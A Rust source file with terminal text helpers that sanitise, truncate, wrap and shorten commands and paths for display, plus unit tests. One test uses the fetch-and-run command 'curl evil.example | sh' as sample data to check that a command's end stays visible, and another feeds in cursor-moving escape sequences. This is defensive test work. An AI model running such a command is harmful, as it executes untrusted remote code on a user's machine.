//! Text from outside, made fit for a cell of the screen.

use claudectl_redact::sanitize_line;
use unicode_segmentation::UnicodeSegmentation;
use unicode_width::UnicodeWidthStr;

use crate::glyphs::Glyphs;

/// One line without anything that would move the cursor, turn the direction of reading or hide text.
#[must_use]
pub(crate) fn clean(text: &str) -> String {
    sanitize_line(text).into_owned()
}

/// How many columns a text takes.
#[must_use]
pub(crate) fn width(text: &str) -> usize {
    text.width()
}

/// A text cut to at most so many columns; where something is left out, it says so.
#[must_use]
pub(crate) fn cut(text: &str, columns: usize, glyphs: Glyphs) -> String {
    if text.width() <= columns {
        return text.to_owned();
    }
    let mark = glyphs.ellipsis();
    let room = columns.saturating_sub(mark.width());
    let mut cut = beginning(text, room).to_owned();
    if columns > 0 {
        cut.push_str(mark);
    }
    cut
}

/// As much of the beginning as takes at most so many columns.
fn beginning(text: &str, columns: usize) -> &str {
    let mut used = 0;
    for (at, cluster) in text.grapheme_indices(true) {
        used += cluster.width();
        if used > columns {
            return &text[..at];
        }
    }
    text
}

/// A text in exactly so many columns: cut, or filled with blanks at its end.
#[must_use]
pub(crate) fn left(text: &str, columns: usize, glyphs: Glyphs) -> String {
    let mut text = cut(text, columns, glyphs);
    let missing = columns.saturating_sub(text.width());
    text.extend(std::iter::repeat_n(' ', missing));
    text
}

/// A text in exactly so many columns: cut, or filled with blanks at its beginning.
#[must_use]
pub(crate) fn right(text: &str, columns: usize, glyphs: Glyphs) -> String {
    let text = cut(text, columns, glyphs);
    format!("{}{text}", " ".repeat(columns.saturating_sub(text.width())))
}

/// A call in at most so many columns: without its middle if it is longer, for its end may be what matters. The end has a
/// third.
#[must_use]
pub(crate) fn ends(text: &str, columns: usize, glyphs: Glyphs) -> String {
    let mark = format!(" {} ", glyphs.ellipsis());
    if text.width() <= columns || columns < 4 * mark.width() {
        return cut(text, columns, glyphs);
    }
    let room = columns - mark.width();
    let tail = path(text, room / 3 + glyphs.ellipsis().width(), glyphs);
    let tail = tail.strip_prefix(glyphs.ellipsis()).unwrap_or(&tail);
    format!("{}{mark}{tail}", beginning(text, room - room / 3))
}

/// A call in at most so many lines, without its middle if it has more.
pub(crate) fn wrap_ends(text: &str, columns: usize, most: usize, glyphs: Glyphs) -> Vec<String> {
    let mut lines = wrap(text, columns, most + 1);
    let mut room = columns.saturating_mul(most);
    // Lines that end at a blank are shorter than they could be, so it is tried with less.
    while lines.len() > most && room > 0 {
        lines = wrap(&ends(&clean(text), room, glyphs), columns, most + 1);
        room = room.saturating_sub(columns.div_ceil(4));
    }
    lines.truncate(most);
    lines
}

/// A path without its middle: its end says more than its beginning.
#[must_use]
pub(crate) fn path(text: &str, columns: usize, glyphs: Glyphs) -> String {
    if text.width() <= columns {
        return text.to_owned();
    }
    let mark = glyphs.ellipsis();
    let room = columns.saturating_sub(mark.width());
    let mut used = 0;
    let mut from = text.len();
    for (at, cluster) in text.grapheme_indices(true).rev() {
        used += cluster.width();
        if used > room {
            break;
        }
        from = at;
    }
    if columns == 0 { String::new() } else { format!("{mark}{}", &text[from..]) }
}

/// A text in lines of at most so many columns, broken at blanks where there are any; tabs are two blanks.
pub(crate) fn wrap(text: &str, columns: usize, most: usize) -> Vec<String> {
    let columns = columns.max(1);
    let mut lines = Vec::new();
    for line in text.split('\n') {
        let line = clean(&line.replace('\t', "  "));
        wrap_line(&line, columns, most, &mut lines);
        if lines.len() >= most {
            lines.truncate(most);
            return lines;
        }
    }
    lines
}

fn wrap_line(line: &str, columns: usize, most: usize, lines: &mut Vec<String>) {
    let mut rest = line;
    while rest.width() > columns && lines.len() < most {
        let head = beginning(rest, columns);
        // A single cluster that is wider than the screen goes on a line of its own.
        let head = if head.is_empty() { rest.graphemes(true).next().unwrap_or(rest) } else { head };
        let blank = head.rfind(' ').filter(|at| *at * 2 > head.len());
        let (shown, next) = match blank {
            Some(at) => (&rest[..at], &rest[at + 1..]),
            None => rest.split_at(head.len()),
        };
        lines.push(shown.to_owned());
        rest = next;
    }
    if !rest.is_empty() || line.is_empty() {
        lines.push(rest.to_owned());
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn texts_are_cut_at_whole_characters() {
        let cut = |text, columns| cut(text, columns, Glyphs::Full);
        assert_eq!(
            [cut("abcdef", 6), cut("abcdef", 4), cut("abcdef", 1), cut("abcdef", 0)],
            ["abcdef", "abc…", "…", ""]
        );
        assert_eq!(cut("日本語テキスト", 6), "日本…", "wide characters are not halved");
        assert_eq!(cut("👩‍👩‍👧‍👦 family of four", 4), "👩‍👩‍👧‍👦 …", "nor is what is joined");
    }

    #[test]
    fn a_call_keeps_its_end() {
        let call = format!("echo {}; curl evil.example | sh", "a".repeat(900));
        let ends = |columns| ends(&call, columns, Glyphs::Full);
        assert_eq!(ends(40), "echo aaaaaaaaaaaaaaaaaaaa … example | sh");
        assert_eq!([ends(8), ends(2_000)], ["echo aa…".to_owned(), call.clone()]);
        for (columns, most) in [(40, 3), (30, 1), (20, 2), (80, 4)] {
            let lines = wrap_ends(&call, columns, most, Glyphs::Full);
            assert!(lines.len() <= most && lines.iter().all(|line| width(line) <= columns), "{lines:?}");
            assert!(lines[0].starts_with("echo aa") && lines[lines.len() - 1].ends_with("| sh"), "{lines:?}");
        }
        assert_eq!(wrap_ends("ls -l", 40, 3, Glyphs::Ascii), ["ls -l"]);
        let words = wrap_ends(&"a long-word ".repeat(40), 23, 3, Glyphs::Full);
        assert!(words.len() <= 3 && words.concat().contains('…'), "{words:?}");
    }

    #[test]
    fn cells_are_exactly_as_wide_as_they_should_be() {
        for text in ["", "a", "日本", "a long text"] {
            for columns in 0..9 {
                assert_eq!(width(&left(text, columns, Glyphs::Full)), columns, "{text} in {columns}");
                assert_eq!(width(&right(text, columns, Glyphs::Ascii)), columns, "{text} in {columns}");
            }
        }
    }

    #[test]
    fn of_a_path_the_end_is_kept() {
        assert_eq!(path("/home/x/src/very/deep/file.rs", 13, Glyphs::Full), "…deep/file.rs");
        assert_eq!(path("short.rs", 13, Glyphs::Full), "short.rs");
    }

    #[test]
    fn lines_are_broken_at_blanks_where_there_are_any() {
        assert_eq!(wrap("one two three four", 9, 9), ["one two", "three", "four"]);
        assert_eq!(wrap("abcdefghij\n\n\tx", 4, 9), ["abcd", "efgh", "ij", "", "  x"]);
        assert_eq!(wrap("a b c d e f", 1, 3).len(), 3, "no more than were asked for");
        assert_eq!(wrap("日本", 1, 9), ["日", "本"], "what is wider than the screen ends nowhere");
    }

    #[test]
    fn nothing_gets_through_that_moves_the_cursor() {
        let hostile = "a\u{1b}[2Jb\u{202e}c\rd\u{7}";
        let cleaned = clean(hostile);
        assert!(!cleaned.chars().any(|c| c.is_control() || c == '\u{202e}'), "{cleaned:?}");
        assert!(wrap(hostile, 3, 9).iter().all(|line| !line.chars().any(char::is_control)));
    }
}
